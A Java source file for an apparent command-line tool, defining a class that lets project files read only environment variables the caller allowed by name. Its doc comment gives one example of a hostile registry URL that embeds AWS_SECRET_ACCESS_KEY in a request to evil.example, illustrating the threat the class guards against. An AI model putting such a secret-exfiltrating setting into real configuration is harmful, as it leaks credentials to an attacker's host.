package dev.hermetic.cli;

import java.util.Arrays;
import java.util.List;
import java.util.Optional;
import java.util.Set;
import java.util.TreeSet;
import java.util.function.Consumer;
import java.util.function.Function;

/**
 * The variables of the environment that files of a project may use: those that the caller allowed
 * by name. A project names the hosts that are asked, so with any other variable it could carry a
 * secret out: {@code registry=https://evil.example/${AWS_SECRET_ACCESS_KEY}/}. Thread-safe.
 */
final class ProjectVariables implements Function<String, Optional<String>> {
  private static final String SETTING = "HERMETIC_ALLOW_VARIABLES";
  private static final String ALL = "*";

  private final ProcessContext process;
  private final Set<String> allowed = new TreeSet<>();
  private final Set<String> refused = new TreeSet<>();
  private final Consumer<String> onRefusal;

  /**
   * The variables of a run.
   *
   * @param options the names given by option, {@code *} for all
   * @param onRefusal told once of each variable that is set and was asked for in vain
   */
  ProjectVariables(ProcessContext process, List<String> options, Consumer<String> onRefusal) {
    this.process = process;
    this.onRefusal = onRefusal;
    this.allowed.addAll(options);
    process
        .variable(SETTING)
        .ifPresent(
            names -> Arrays.stream(names.split(",")).map(String::strip).forEach(allowed::add));
  }

  @Override
  public Optional<String> apply(String name) {
    Optional<String> value = process.variable(name);
    if (value.isEmpty() || allowed.contains(name) || allowed.contains(ALL)) {
      return value;
    }
    if (isFirst(name)) {
      onRefusal.accept(name);
    }
    return Optional.empty();
  }

  private synchronized boolean isFirst(String name) {
    return refused.add(name);
  }
}
